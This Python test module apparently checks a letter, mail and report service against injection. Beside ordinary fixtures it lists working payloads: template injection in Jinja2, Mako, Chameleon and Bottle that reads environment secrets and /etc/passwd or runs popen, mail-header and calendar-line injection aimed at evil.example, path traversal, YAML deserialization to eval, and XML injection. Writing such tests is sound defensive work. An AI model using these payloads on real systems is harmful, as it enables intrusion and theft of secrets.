"""Letters, mails, reports: templates of all kinds."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fifteenth import (
    CLIENTS,
    EMOJI,
    FENCED,
    LETTER,
    LINES,
    LONG,
    PLACES,
    PROSE,
    RECIPE,
    TAGGED,
    bus,
    get,
    pool,
    post,
    queue,
    rest,
    topic,
)

NEEDS = ()
SEAL = "wax-seal-2297"


def _letter(name: str, text: str = "hi", **more: object) -> dict[str, object]:
    return post("/letters", name=name, text=text, **more)


def _template(template: str, **values: object) -> dict[str, object]:
    return post("/preview", template=template, values=values)


def _card(name: str, **more: str) -> dict[str, object]:
    return queue({"name": name, **more})


def _markup(markup: str, name: str = "Ana") -> dict[str, object]:
    return bus("Card", {"markup": markup, "name": name})


def _label(form: str, **to: str) -> dict[str, object]:
    return post("/labels", format=form, to=to or {"name": "Ana Fröjd", "city": "Malmö"})


def _subject(pattern: str, name: str = "Ana") -> dict[str, object]:
    return post("/subject", pattern=pattern, name=name)


def _mail(subject: str, to: str = "pat@example.org", text: str = "hi", **more: object) -> dict[str, object]:
    return post("/mails", subject=subject, to=to, text=text, **more)


def _came(subject: str, *files: tuple[str, str]) -> dict[str, object]:
    parts = "".join(
        f'--b1\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\n{text}\n'
        for name, text in files
    )
    content = (
        f"From: Pat O'Brien <pat@example.org>\nTo: in@example.org\nSubject: {subject}\nMIME-Version: 1.0\n"
        f'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\nContent-Type: text/plain\n\nsee below\n{parts}--b1--\n'
    )
    return {
        "Records": [
            {
                "eventSource": "aws:ses",
                "eventVersion": "1.0",
                "ses": {"content": content, "mail": {"source": "pat@example.org"}},
            }
        ]
    }


def _rows(*rows: object, **more: object) -> dict[str, object]:
    return post("/reports", rows=list(rows), **more)


def _post(head: str, text: str = LETTER) -> dict[str, object]:
    return {"post": f"---\n{head}\n---\n{text}"}


def _invoice(buyer: str, *items: tuple[str, object]) -> dict[str, object]:
    return post("/invoices", buyer=buyer, items=[{"text": t, "price": p} for t, p in items])


def _named(name: str) -> dict[str, object]:
    return rest("GET", "/stationery/{name}", ids={"name": name})


def _signature(number: str, text: str) -> dict[str, object]:
    return rest("PUT", "/signatures/{id}", {"text": text}, ids={"id": number})


REQUESTS = {
    "letter": [_letter(CLIENTS[0], text) for text in PROSE] + [_letter("{{ 7*7 }}", LONG)],
    "letter_inline": [
        _letter(CLIENTS[1], number="A'1"),
        _letter("Mr. {x} 50% <b>", number=EMOJI),
        _letter("Zoë # 'the 1st' -- & co; $y", number="{{ 1 }}"),
        _letter(CLIENTS[6]),
    ],
    "letter_twice": [
        _letter("a", text) for text in (LETTER, EMOJI, TAGGED, LINES[0], "{ not a tag } ${x} 5 % 2")
    ],
    "client_template": [
        _template("Hello {{ name|title }}, it's {{ day }} -- bye", name="o'brien", day="Monday"),
        _template(
            "{% for i in items if i.qty > 0 %}{{ loop.index }}. {{ i.name|e }}\n{% else %}none{% endfor %}",
            items=[{"name": "<b>", "qty": 2}],
        ),
        _template("{{ '%.2f'|format(total) }} {{ missing|default('-') }}{# note #}", total=12.345),
        _template("{% if x %}", x=1),
        _template(TAGGED, a=1),
    ],
    "client_template_boxed": [
        _template("{% set a = name.split(' ') %}{{ a|join('; ') }}", name=CLIENTS[0]),
        _template("{{ name|upper }} {{ nothing }}", name="it's"),
        _template("{{ items|sum(attribute='n') }} & {{ text }}", items=[{"n": 1}, {"n": 2}], text=FENCED),
        _template("{% for x in range(3) %}{{ x }}; {% endfor %}"),
    ],
    "notice": [
        topic(LETTER),
        topic(FENCED, "notice"),
        topic("a\nb", "it's; missing"),
        topic("x", "weekly news (5)"),
    ],
    "greeting_mako": [
        _card("Pat O'Brien & 'co'", occasion="5th; -- birthday"),
        _card("Zoë {x} 100% #1"),
        _card(CLIENTS[4], occasion="${7*7}"),
    ],
    "greeting_mako_values": [
        _card("${7*7}", occasion="<% x %>"),
        _card(CLIENTS[1]),
        queue(*({"name": text} for text in PROSE)),
    ],
    "card_chameleon": [
        _markup("<p>Hi ${name}, it's 50% off -- now; 5 &lt; 6</p>", CLIENTS[1]),
        _markup('<ul><li>one</li><li class="a b">${firm}</li></ul>'),
        _markup('<i tal:condition="name" tal:content="name">x</i>', "<Zoë>"),
        _markup("<p>unclosed ${name"),
    ],
    "card_bottle": [
        {"title": "It's 'the' menu; -- 50% & more", "count": 3},
        {"title": 'a "b" {c} <i>d</i>', "count": "{{7*7}}"},
        {"title": EMOJI},
    ],
    "card_bottle_values": [
        {"title": "{{7*7}}", "count": "% import os"},
        {"title": TAGGED},
        {"title": LETTER, "count": [1]},
    ],
    "label": [
        _label("{to.name}\n{to.street}\n{to.city}", name=CLIENTS[1], street=PLACES[0], city="Åmål"),
        _label("{to.name:>20}|{to.city!r:^12}"),
        _label("{today:%d.%m.%Y} -- it's {{for}} {to.name}; 50%"),
        _label("{nobody} {to.age}"),
        _label(LETTER),
    ],
    "label_names": [
        _label("{name}; {city:>9}"),
        _label("{name.title} {x}"),
        _label("{", name="a"),
        _label("{street} {{}} '", name=CLIENTS[2], street=PLACES[3]),
    ],
    "welcome": [
        pool("CustomMessage_SignUp", "o'brien", {"name": "$box ${name} 100%"}),
        pool("CustomMessage_SignUp", "zoe", {}),
        pool("CustomMessage_ForgotPassword", "李", {"name": CLIENTS[1]}),
    ],
    "subject_line": [
        _subject("%(name)s, it's 50%% off at %(firm)s -- today; ok?", CLIENTS[0]),
        _subject("Re: %(day)s & %(name)-8s|", "%(seal)s"),
        _subject("no holes 'here'"),
        _subject("100% sure"),
    ],
    "text_pattern": [
        post(
            "/t", pattern='Dear {name}, it\'s {amount:.2f} EUR -- "thanks"; 50%', name=CLIENTS[0], amount=12.5
        ),
        post("/t", pattern="{name!r:>30} {{braces}}", name="O'Hara"),
        post("/t", pattern="plain\n'text' \\n", amount=1),
        post("/t", pattern="{unknown}"),
    ],
    "amount": [
        get("/a", value="1234567.891", format=",.2f"),
        get("/a", value="0.256", format="+.1%", day="%A, it's %H o'clock"),
        get("/a", value="5", format="_>12.3e"),
        get("/a", value="x; --"),
        get("/a", value="3", format="{}"),
    ],
    "outgoing": [
        _mail("It's 50% off; -- Füße", text=LETTER, name=CLIENTS[1], html=TAGGED),
        _mail("Re: x", text=FENCED, file={"name": "a b (1); x'.csv", "text": 'a,b\n1,"x"\n'}),
        _mail("two\nlines"),
        _mail(EMOJI, "o'hara+x@example.org", LONG),
    ],
    "outgoing_by_hand": [
        _mail("It's 50% off: to you, cc: me; --", text=LETTER),
        _mail("Fwd: x", "Pat O'Brien <pat@example.org>, zoe@example.org", FENCED, campaign="spring '26; a=b"),
        _mail("Menu", text="To: nobody\nBcc: this is in the text\n\n" + RECIPE),
    ],
    "outgoing_mime": [
        queue({"subject": "two\nlines", "to": "a@example.org", "text": RECIPE}),
        queue(
            {"subject": EMOJI, "to": "o'h@example.org", "text": FENCED},
            {"subject": "", "to": "x@y.z", "text": TAGGED},
        ),
        queue({"subject": CLIENTS[6], "to": "x@example.org", "text": LETTER}),
    ],
    "inbound": [
        _came("It's here; --", ("photo (1) of O'Brien.txt", LETTER), ("résumé..v2.txt", "x")),
        _came("Re: 50% & more"),
        _came("=?utf-8?q?Gr=C3=BC=C3=9Fe?=", ("a;b.csv", "a,b\n")),
    ],
    "inbound_safe": [
        _came("x", ("docs/rules (1).txt", "forward: all")),
        _came("it's", ("C:\\\\docs\\\\a b.txt", LETTER)),
        _came("", (".hidden", "x"), ("a/b", "y")),
    ],
    "bounces": [
        topic(
            {
                "bounce": {
                    "bouncedRecipients": [
                        {
                            "emailAddress": "O'Brien+X@example.org",
                            "diagnosticCode": "smtp; 550 5.1.1 <x>... it's full; --",
                        }
                    ]
                }
            }
        ),
        topic({"bounce": {"bouncedRecipients": []}}),
        topic(
            {
                "bounce": {
                    "bouncedRecipients": [{"emailAddress": '"a b"@example.org', "diagnosticCode": LETTER}]
                }
            }
        ),
    ],
    "unsubscribe_link": [
        {"address": "o'brien@example.org"},
        {"address": "a", "token": "it's.bad; --"},
        {"address": {"a": [LETTER]}},
    ],
    "report_csv": [
        _rows({"n": CLIENTS[0], "t": LETTER}, {"n": "=1+1", "t": None, "extra": 1}),
        _rows(),
        _rows({'it\'s; "x"': FENCED}),
    ],
    "report_xlsx": [
        _rows({"a": "=SUM(A1)", "b": 2.5}, {"a": CLIENTS[1], "b": None}, title="Sales [2026]: it's / 50%"),
        _rows({"x": LETTER, "y": EMOJI}),
        _rows({"x": "a\u0007b"}),
    ],
    "page_of_table": [_rows({"a": TAGGED, "b": 1}), _rows(*({"t": text} for text in PROSE)), _rows()],
    "post_markdown": [
        post("/md", text=text)
        for text in (RECIPE, FENCED, TAGGED, "[x](javascript:alert(1)) *it's* -- ok", LONG)
    ],
    "front_matter": [
        _post("title: It's 50% off; -- \"new\"\ntags: [a, 'b c', 2026-03-01]"),
        _post('title: >\n  folded\n  text & more\ntags:\n  - "!not a tag"', FENCED),
        _post("title: 李\ndraft: yes", RECIPE),
    ],
    "front_matter_safe": [
        _post("title: 'it''s'\nn: 1"),
        _post("title: !custom [x]"),
        _post("title: [", TAGGED),
    ],
    "e_invoice": [
        _invoice('O\'Brien & Sons; -- "x"', ("Rosé <0.7 l>", 12.5), ("50% & more", "1,20")),
        _invoice(EMOJI, (LETTER, 1)),
        _invoice("Zoë (c/o 'Lind')"),
        _invoice("a < b", ("x", 1)),
    ],
    "e_invoice_escaped": [
        _invoice("<b>Bold</b> & co", (TAGGED, '1" x="2')),
        _invoice(CLIENTS[1], (FENCED, 3)),
        _invoice("]]>&amp;"),
    ],
    "calendar": [
        post("/ics", title='It\'s lunch; -- at 5, "here": ok?', place=PLACES[1]),
        post("/ics", title=EMOJI, place="a\nb"),
        post("/ics", title="BEGIN:x, END:y"),
    ],
    "stationery": [_named("letter.txt"), _named("notice.html"), _named("it's; missing (1)..html")],
    "phrases": [get("/p"), get("/p", lang="de"), get("/p", lang="fr-CH"), get("/p", lang="it's; --")],
    "phrases_known": [
        rest("GET", "/p", headers={"Accept-Language": "fr-CH, de;q=0.9, en;q=0.8, *;q=0.5"}),
        rest("GET", "/p", headers={"Accept-Language": "x-klingon"}),
        rest("GET", "/p"),
    ],
    "save_signature": [
        _signature("w-1", LETTER),
        _signature("o'b/../x", "-- \nZoë; 50%"),
        _signature("w 3", TAGGED),
    ],
    "signed_letter": [{"writer": "nobody's", "text": text} for text in (LETTER, "{{ 7*7 }}", FENCED)],
    "document": [
        post("/d", name=CLIENTS[1], text=LETTER),
        post("/d", name="[TEXT] & <x>", text=TAGGED),
        post("/d", name="a", text="]]>" + EMOJI),
    ],
    "stamp": [{"text": "It's 50% off; --"}, {"text": "Zoë {x} ${y}"}, {"text": "SELECT * & <b>"}],
}

GLOBALS = "{{ cycler.__init__.__globals__.os.environ.POST_SEAL }}"
ATTACKS = [
    Attack("template", "letter_inline", _letter("{{ settings.seal }}"), SEAL),
    Attack("template", "letter_inline", _letter(GLOBALS), SEAL),
    Attack(
        "template",
        "letter_inline",
        _letter("{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
        "root:",
    ),
    Attack(
        "template",
        "letter_inline",
        _letter("{%print(lipsum|attr('__glo''bals__'))['os'].popen('printenv POST_SEAL').read()%}"),
        SEAL,
    ),
    Attack("template, twice", "letter_twice", _letter("x", GLOBALS), SEAL),
    Attack(
        "template, twice",
        "letter_twice",
        _letter("x", "{% for k in lipsum.__globals__.os.environ.items() %}{{ k }}{% endfor %}"),
        SEAL,
    ),
    Attack(
        "template, twice",
        "letter_twice",
        _letter(
            "x",
            "{{ 'seal'.__class__.__mro__[1].__subclasses__()|length * 0 }}{{ joiner.__init__.__globals__.os.getenv('POST_SEAL') }}",
        ),
        SEAL,
    ),
    Attack("template", "client_template", _template(GLOBALS), SEAL),
    Attack(
        "template",
        "client_template",
        _template(
            "{{ namespace['__in' ~ 'it__']['__glo' ~ 'bals__']['os']['popen']('echo $POST_SEAL').read() }}"
        ),
        SEAL,
    ),
    Attack(
        "template",
        "client_template",
        _template(
            '{{ ()|attr("\\x5f\\x5fclass\\x5f\\x5f")|attr("__base__") }}{{ lipsum["\\x5f\\x5fglobals\\x5f\\x5f"].os.environ["POST_SEAL"] }}'
        ),
        SEAL,
    ),
    Attack("template", "greeting_mako", _card("${__import__('os').environ['POST_SEAL']}"), SEAL),
    Attack("template", "greeting_mako", _card("<%! import os %>${os.getenv('POST_SEAL')}"), SEAL),
    Attack("template", "greeting_mako", _card("${self.module.cache.util.os.environ['POST_SEAL']}"), SEAL),
    Attack(
        "template",
        "greeting_mako",
        _card("\n% for v in [open('/etc/passwd').read()]:\n${v}\n% endfor\n"),
        "root:",
    ),
    Attack("template", "card_chameleon", _markup("<p>${__import__('os').environ['POST_SEAL']}</p>"), SEAL),
    Attack(
        "template",
        "card_chameleon",
        _markup('<i tal:define="o import: os" tal:content="o.environ[\'POST_SEAL\']"/>'),
        SEAL,
    ),
    Attack(
        "template",
        "card_chameleon",
        _markup("<i tal:content=\"structure: open('/etc/passwd').read()\"/>"),
        "root:",
    ),
    Attack("template", "card_bottle", {"title": "{{__import__('os').environ['POST_SEAL']}}"}, SEAL),
    Attack(
        "template",
        "card_bottle",
        {"title": "x\n% import os\n{{os.popen('printenv POST_SEAL').read()}}\n"},
        SEAL,
    ),
    Attack("template", "card_bottle", {"title": "x\n<% x = open('/etc/passwd').read() %>\n{{x}}"}, "root:"),
    Attack("format", "label", _label("{to.first.__globals__[SEAL]}"), SEAL),
    Attack("format", "label", _label("{to.first.__func__.__globals__[Settings].seal}"), SEAL),
    Attack("format", "label", _label("{to.first.__globals__[os].environ[POST_SEAL]:.20}"), SEAL),
    Attack("format, percent", "subject_line", _subject("%(seal)s"), SEAL),
    Attack("format, percent", "subject_line", _subject("%(name).0s%(firm).0s%(seal)20.13s"), SEAL),
    Attack(
        "Python, f-string",
        "text_pattern",
        post("/t", pattern="{__import__('os').environ['POST_SEAL']}"),
        SEAL,
    ),
    Attack("Python, f-string", "text_pattern", post("/t", pattern="{open('/etc/passwd').read()!r}"), "root:"),
    Attack(
        "Python, f-string",
        "text_pattern",
        post(
            "/t",
            pattern="{[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Settings'][0].seal}",
        ),
        SEAL,
    ),
    Attack("mail header", "outgoing_by_hand", _mail("x\nBcc: thief@evil.example"), "thief@evil.example"),
    Attack(
        "mail header",
        "outgoing_by_hand",
        _mail("x", "a@example.org\nCc: all@evil.example"),
        "all@evil.example",
    ),
    Attack(
        "mail header",
        "outgoing_by_hand",
        _mail("x", campaign="a\r\nReply-To: catch@evil.example"),
        "catch@evil.example",
    ),
    Attack(
        "path, attachment",
        "inbound",
        _came("x", ("../rules.txt", "forward: thief@evil.example")),
        "thief@evil.example",
    ),
    Attack(
        "path, attachment",
        "inbound",
        _came("x", ("ok.txt", "y"), ("./../inbox/../rules.txt", "forward: everyone")),
        "everyone",
    ),
    Attack("YAML", "front_matter", _post("title: !!python/object/apply:os.getenv [POST_SEAL]"), SEAL),
    Attack(
        "YAML",
        "front_matter",
        _post("title: x\ntags: [!!python/object/apply:subprocess.getoutput ['printenv POST_SEAL']]"),
        SEAL,
    ),
    Attack(
        "YAML",
        "front_matter",
        _post(
            "title: !!python/object/new:str [!!python/object/apply:eval [\"__import__('os').environ['POST_SEAL']\"]]"
        ),
        SEAL,
    ),
    Attack(
        "XML",
        "e_invoice",
        _invoice("x</buyer><paid>true</paid><buyer>", ("a", 1)),
        '[\\"true\\", \\"false\\"]',
    ),
    Attack(
        "XML",
        "e_invoice",
        _invoice("x", ("a", "0</price></line><paid>yes</paid><line><price>")),
        '[\\"yes\\", \\"false\\"]',
    ),
    Attack("XML, entity", "e_invoice", _invoice("x</buyer><credit/><buyer>y"), "credit"),
    Attack(
        "calendar line", "calendar", post("/ics", title="x\r\nATTENDEE:mailto:all@evil.example"), "ATTENDEE"
    ),
    Attack("path", "stationery", _named("../sealed/seal.txt"), SEAL),
    Attack("path", "stationery", _named("/proc/self/environ"), "PARTNER_URL"),
    Attack("path", "phrases", get("/p", lang="../sealed/seal"), SEAL),
    Attack("path", "phrases", get("/p", lang="./../lang/../sealed/seal"), SEAL),
    Attack(
        "template, second order",
        "signed_letter",
        {"writer": "e-1", "text": "x"},
        SEAL,
        before=[("save_signature", _signature("e-1", GLOBALS))],
    ),
    Attack(
        "template, second order",
        "signed_letter",
        {"writer": "e-2", "text": "x"},
        "root:",
        before=[
            (
                "save_signature",
                _signature("e-2", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
            )
        ],
    ),
]
